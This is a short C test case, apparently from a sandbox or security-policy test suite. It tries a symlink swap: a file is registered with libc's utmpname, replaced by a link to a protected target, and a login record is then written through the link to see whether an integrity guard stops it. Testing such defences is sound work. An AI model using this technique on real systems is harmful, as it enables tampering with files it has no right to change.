// class: files
// rule: guard_integrity
// also: read_write_tmp
// success: libc's login records are kept in /tmp, by a name that became a link after it was judged
// proof: changed
#include "attack.h"
#include <utmp.h>

int main(void)
{
    struct utmp entry = {.ut_type = USER_PROCESS};
    char name[4096];
    if (!getcwd(name, sizeof name - 16)) return stopped("getcwd");
    strcat(name, "/records");
    close(open(name, O_WRONLY | O_CREAT, 0600));
    if (utmpname(name) != 0) return stopped("utmpname");
    if (unlink(name) || symlink(FILE_, name)) return stopped("symlink");
    setutent();
    if (!pututline(&entry)) return stopped("pututline");
    endutent();
    return reached();
}
